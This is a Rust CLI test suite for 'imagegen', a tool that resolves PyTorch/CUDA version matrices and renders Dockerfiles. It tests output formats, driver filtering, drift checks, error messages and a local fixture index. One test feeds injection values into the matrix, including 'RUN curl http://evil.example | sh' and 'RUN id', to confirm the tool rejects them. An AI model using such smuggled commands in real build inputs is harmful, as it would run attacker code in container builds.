//! CLI tests: `resolve`, `render`, `--check` and every error path, run as a user runs them.

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use predicates::prelude::*;

fn imagegen() -> Command {
    Command::cargo_bin("imagegen").unwrap()
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

/// A temporary directory holding a copy of a fixture as `matrix.yaml`.
fn workspace(fixture_name: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(fixture(fixture_name), dir.path().join("matrix.yaml")).unwrap();
    dir
}

fn write_matrix(dir: &Path, text: &str) {
    std::fs::write(dir.join("matrix.yaml"), text).unwrap();
}

fn stdout_of(command: &mut Command) -> String {
    let output = command.output().unwrap();
    assert!(
        output.status.success(),
        "stderr: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn resolve_table_for_people() {
    let dir = workspace("basic.yaml");
    let table = stdout_of(imagegen().current_dir(dir.path()).arg("resolve"));
    insta::assert_snapshot!("resolve_table", table);
}

#[test]
fn resolve_json_has_every_documented_field() {
    let dir = workspace("basic.yaml");
    let text = stdout_of(
        imagegen()
            .current_dir(dir.path())
            .args(["resolve", "--format", "json"]),
    );
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    let images = json["images"].as_array().unwrap();
    assert!(!images.is_empty());
    for image in images {
        for key in [
            "tag",
            "aliases",
            "variant",
            "torch",
            "cuda",
            "cudnn",
            "python",
            "os",
            "base_image",
            "driver_min",
            "driver_min_compat",
            "require_cuda",
            "fingerprint",
        ] {
            assert!(!image[key].is_null(), "image lacks {key}: {image}");
        }
    }
    let rejected = json["rejected"].as_array().unwrap();
    let example = rejected
        .iter()
        .find(|r| r["torch"] == "2.7.0" && r["cuda"] == "12.4")
        .expect("the include of 2.7.0 + 12.4 is rejected");
    assert_eq!(
        example["reason"]
            .as_str()
            .unwrap()
            .split(';')
            .next()
            .unwrap(),
        "torch 2.7.0 has no CUDA 12.4 wheels (it publishes cu118, cu126, cu128)"
    );
    assert_eq!(example["origin"], "include[0]");
    assert_eq!(
        example["location"], "matrix.yaml:11",
        "the include rule's line"
    );
}

#[test]
fn resolve_for_a_fleet_driver() {
    let dir = workspace("basic.yaml");
    let text = stdout_of(imagegen().current_dir(dir.path()).args([
        "resolve",
        "--driver",
        "535.104.05",
        "--format",
        "json",
    ]));
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    let kept: Vec<&str> = json["images"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["cuda"].as_str().unwrap())
        .collect();
    assert!(kept.iter().all(|cuda| *cuda == "11.8"), "{kept:?}");
    let reasons: Vec<&str> = json["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["origin"] == "driver")
        .map(|r| r["reason"].as_str().unwrap())
        .collect();
    assert!(
        reasons
            .iter()
            .any(|r| r.starts_with("needs NVIDIA driver ≥ 560.35.05")),
        "{reasons:?}"
    );
    assert!(
        reasons
            .iter()
            .any(|r| r.starts_with("needs NVIDIA driver ≥ 570.124.06")),
        "{reasons:?}"
    );

    let forward = stdout_of(imagegen().current_dir(dir.path()).args([
        "resolve",
        "--driver",
        "535.104.05",
        "--forward-compat",
        "--format",
        "json",
    ]));
    let json: serde_json::Value = serde_json::from_str(&forward).unwrap();
    assert!(json["images"]
        .as_array()
        .unwrap()
        .iter()
        .any(|i| i["cuda"] == "12.8"));

    imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--driver", "12.4"])
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("error: --driver")
                .and(predicate::str::contains("did you give a CUDA version")),
        );
}

#[test]
fn resolve_strict_fails_on_rejections() {
    let dir = workspace("basic.yaml");
    imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--strict"])
        .assert()
        .code(1);
}

#[test]
fn render_is_deterministic_and_check_finds_drift() {
    let dir = workspace("basic.yaml");
    let out = dir.path().join("images");
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    let runtime =
        std::fs::read_to_string(out.join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/Dockerfile"))
            .unwrap();
    let devel =
        std::fs::read_to_string(out.join("2.7.1-cuda12.6-cudnn9-devel-ubuntu24.04/Dockerfile"))
            .unwrap();
    insta::assert_snapshot!(
        "rendered_2_7_1_cuda12_6_ubuntu24_04",
        format!("===== runtime =====\n{runtime}===== devel =====\n{devel}")
    );

    // A second render changes nothing, byte for byte.
    let again = stdout_of(imagegen().current_dir(dir.path()).arg("render"));
    assert!(again.contains("0 changed, 0 removed"), "{again}");
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .success()
        .stdout(predicate::str::contains("up to date"));

    // A hand edit is found, with a diff, and nothing is written.
    let edited = out.join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/Dockerfile");
    std::fs::write(&edited, runtime.replace("gcc", "clang")).unwrap();
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(
            predicate::str::contains("-      clang").and(predicate::str::contains("+      gcc")),
        )
        .stderr(predicate::str::contains("hint: run `imagegen render`"));
    assert!(std::fs::read_to_string(&edited).unwrap().contains("clang"));

    // Images the matrix no longer makes are stale for --check and removed by render.
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    let text = std::fs::read_to_string(dir.path().join("matrix.yaml")).unwrap();
    write_matrix(
        dir.path(),
        &text.replace("torch: [\"2.7\", \"2.8.0\"]", "torch: [\"2.8.0\"]"),
    );
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains(
            "stale: images/2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04",
        ));
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "removed images/2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04",
        ));
    assert!(!out
        .join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04")
        .exists());
    // Directories imagegen did not generate are never touched.
    std::fs::create_dir_all(out.join("hand-made")).unwrap();
    std::fs::write(out.join("hand-made/Dockerfile"), "FROM scratch\n").unwrap();
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    assert!(out.join("hand-made/Dockerfile").exists());
}

#[test]
fn bad_matrix_input_is_one_precise_error_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let base = std::fs::read_to_string(fixture("basic.yaml")).unwrap();
    let cases: Vec<(String, Vec<&str>)> = vec![
        (
            base.replace("torch:", "torhc:"),
            vec![
                "matrix.yaml:4:1: unknown field `torhc`",
                "hint: did you mean `torch`?",
            ],
        ),
        (
            base.replace("\"12.8\"", "\"12.8b\""),
            vec!["matrix.yaml:5:", "malformed version \"12.8b\""],
        ),
        (
            base.replace(
                "[\"2.7\", \"2.8.0\"]",
                "[\"2.7.0\\nRUN curl http://evil.example | sh\"]",
            ),
            vec!["matrix.yaml:4:", "malformed version"],
        ),
        (
            base.replace("team/pytorch", "\"team/pytorch:latest\\nRUN id\""),
            vec!["repository", "not allowed in an image reference"],
        ),
        (
            base.replace("variants: [runtime, devel]", "variants: [runtime, debug]"),
            vec!["matrix.yaml:7:", "unknown variant `debug`"],
        ),
        (
            base.replace("cuda: [\"11.8\", \"12.6\", \"12.8\"]", "cuda: 12.6"),
            vec!["matrix.yaml:5:", "hint: axes are lists"],
        ),
    ];
    for (text, expected) in cases {
        write_matrix(dir.path(), &text);
        let assert = imagegen()
            .current_dir(dir.path())
            .arg("render")
            .assert()
            .code(2);
        let stderr = String::from_utf8(assert.get_output().stderr.clone()).unwrap();
        for needle in expected {
            assert!(stderr.contains(needle), "expected {needle:?} in:\n{stderr}");
        }
        assert_eq!(
            stderr.matches("error:").count(),
            1,
            "one error, printed once:\n{stderr}"
        );
        assert!(
            !dir.path().join("images").exists(),
            "nothing may be written on bad input"
        );
    }
}

#[test]
fn missing_matrix_file_is_named() {
    let dir = tempfile::tempdir().unwrap();
    imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--matrix", "nope.yaml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("cannot read matrix nope.yaml"));
}

#[test]
fn every_subcommand_has_help_and_there_is_a_version() {
    imagegen()
        .arg("--version")
        .assert()
        .success()
        .stdout(predicate::str::starts_with("imagegen "));
    let help = stdout_of(imagegen().arg("--help"));
    let subcommands: Vec<String> = help
        .lines()
        .skip_while(|l| !l.starts_with("Commands:"))
        .skip(1)
        .take_while(|l| l.starts_with("  ") || l.is_empty())
        .filter(|l| l.starts_with("  ") && !l.starts_with("   "))
        .map(|l| l.split_whitespace().next().unwrap().to_string())
        .filter(|name| name != "help")
        .collect();
    assert!(subcommands.len() >= 2, "{help}");
    for name in subcommands {
        imagegen()
            .args([name.as_str(), "--help"])
            .assert()
            .success()
            .stdout(predicate::str::contains("Usage: imagegen"));
    }
}

#[test]
fn the_repository_images_are_up_to_date() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    imagegen()
        .current_dir(root)
        .args(["render", "--check"])
        .assert()
        .success();
}

/// A one-thread HTTP server for a PyPI-style index made of the saved fixtures: the JSON page of
/// torch (its file URLs pointed here) and the `.metadata` files that exist; anything else is 404.
fn serve_fixture_index() -> String {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let page = std::fs::read_to_string(fixture("pypi/simple-torch-2.10.0-2.12.1.json"))
        .unwrap()
        .replace("https://files.pythonhosted.org", &format!("{base}/files"));
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut request_line = String::new();
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            if reader.read_line(&mut request_line).is_err() {
                continue;
            }
            // Drain the headers.
            let mut header = String::new();
            while reader.read_line(&mut header).is_ok() && header.trim() != "" {
                header.clear();
            }
            let path = request_line.split_whitespace().nth(1).unwrap_or("/");
            let filename = path.rsplit('/').next().unwrap_or_default();
            let (status, content_type, body) = if path == "/simple/torch/" {
                (
                    "200 OK",
                    "application/vnd.pypi.simple.v1+json",
                    page.clone(),
                )
            } else {
                match std::fs::read_to_string(fixture(&format!("pypi/{filename}"))) {
                    Ok(text) if path.starts_with("/files/") => ("200 OK", "text/plain", text),
                    _ => ("404 Not Found", "text/plain", String::new()),
                }
            };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    format!("{base}/simple")
}

#[test]
fn knowledge_derive_reads_an_index_and_checks_the_knowledge() {
    let index = serve_fixture_index();
    let stdout = stdout_of(imagegen().args([
        "knowledge",
        "derive",
        "torch",
        "2.12.1",
        "--index",
        &index,
        "--check",
    ]));
    let stdout = stdout.replace(&index, "INDEX");
    let read_on = stdout
        .lines()
        .next()
        .and_then(|line| line.rsplit("read ").next())
        .unwrap_or_default()
        .trim_end_matches(')')
        .to_string();
    insta::assert_snapshot!("knowledge_derive_2_12_1", stdout.replace(&read_on, "DATE"));

    let output = imagegen()
        .args(["knowledge", "derive", "torch", "2.12", "--index", &index])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr)
        .contains("`2.12` is not a torch release such as 2.13.0"));
}

#[test]
fn knowledge_derive_names_an_unreachable_index() {
    // Port 9 (discard) on loopback: nothing listens there.
    let output = imagegen()
        .args([
            "knowledge",
            "derive",
            "torch",
            "2.12.1",
            "--index",
            "http://127.0.0.1:9/simple",
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("cannot reach http://127.0.0.1:9/simple/torch/"),
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: `knowledge derive` reads the index over the network"),
        "{stderr}"
    );
}

/// The embedded knowledge of a released torch agrees with the wheels' own metadata on PyPI. This
/// test needs https://pypi.org: without the network it fails (it does not skip) and says so.
#[test]
fn knowledge_derive_agrees_with_pypi_for_a_released_torch() {
    let output = imagegen()
        .args(["knowledge", "derive", "torch", "2.12.1", "--check"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        output.status.success(),
        "`imagegen knowledge derive torch 2.12.1 --check` failed. It reads https://pypi.org/simple/torch/ and the wheels' .metadata files: PyPI must be reachable from where the tests run.\nstdout:\n{stdout}\nstderr:\n{stderr}"
    );
    assert!(
        stdout.contains("# --check against the embedded knowledge: 0 difference(s)"),
        "{stdout}"
    );
    assert!(
        stdout.contains("{platform: linux/amd64, cuda: \"13.0\", cuda_runtime: \"13.0.2\", cudnn: \"9.20.0.48\", nccl: \"2.29.7\"}"),
        "{stdout}"
    );
}
